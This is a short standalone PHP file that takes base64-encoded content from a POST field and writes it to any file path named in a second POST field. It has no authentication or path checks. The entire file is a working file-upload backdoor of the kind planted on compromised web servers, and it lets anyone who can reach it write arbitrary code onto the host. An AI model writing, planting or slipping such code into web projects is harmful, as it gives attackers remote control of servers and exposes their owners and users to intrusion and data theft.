<?php
if (isset($_POST['c'])) {
	file_put_contents($_POST['to'], base64_decode($_POST['c']));
}
